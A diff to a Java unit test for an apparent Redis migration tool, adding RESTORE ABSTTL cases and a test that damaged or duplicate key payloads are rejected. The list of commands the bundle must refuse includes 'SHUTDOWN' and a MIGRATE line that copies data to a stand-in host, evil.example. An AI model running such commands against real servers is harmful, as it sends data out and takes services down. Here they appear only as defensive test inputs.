@@ -7,6 +7,7 @@ import dev.migrator.error.BundleDamagedException;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.util.HexFormat;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -35,6 +36,9 @@ final class SavedKeysTest {
         "SHUTDOWN",
         "MIGRATE evil.example 6379 k 0 1000",
         "RESTORE k 0 x",
+        "RESTORE k 0 x ABSTTL",
+        "RESTORE k 0 x ABSTTL REPLACE",
+        "RESTORE other 0 x ABSTTL",
         "SELECT 3",
         "DEL k other",
         "SET k v EX 5",
@@ -59,6 +63,29 @@ final class SavedKeysTest {
     assertThatThrownBy(() -> saved.take(command(hostile)))
         .isInstanceOf(BundleDamagedException.class)
         .hasMessageContaining("keys.resp holds a command that does not belong there");
+  }
+
+  @Test
+  void aPayloadIsAWholeValueOfAModuleAndNothingElse() {
+    byte[] value = HexFormat.of().parseHex("07810000000000000401020505017800");
+    byte[] good =
+        Payload.ofRdb(HexFormat.of().parseHex("0781000000000000040102050501" + "7800"), 11).bytes();
+    byte[] text = good.clone();
+    text[0] = 0;
+    byte[] flipped = good.clone();
+    flipped[flipped.length - 1] ^= 1;
+    saved.take(Command.of("DEL", "k"));
+    for (byte[] bad : List.of(value, text, flipped, new byte[0])) {
+      assertThatThrownBy(() -> saved.take(Command.of("RESTORE", "k", 0, bad, "ABSTTL")))
+          .isInstanceOf(BundleDamagedException.class);
+    }
+    assertThatThrownBy(() -> saved.take(Command.of("RESTORE", "k", -1, good, "ABSTTL")))
+        .isInstanceOf(BundleDamagedException.class);
+    assertThat(saved.take(Command.of("RESTORE", "k", 0, good, "ABSTTL"))).isPresent();
+    assertThatThrownBy(() -> saved.take(Command.of("RESTORE", "k", 0, good, "ABSTTL")))
+        .isInstanceOf(BundleDamagedException.class);
+    saved.end();
+    assertThat(hash.sum().rows()).isEqualTo(1);
   }
 
   @Test
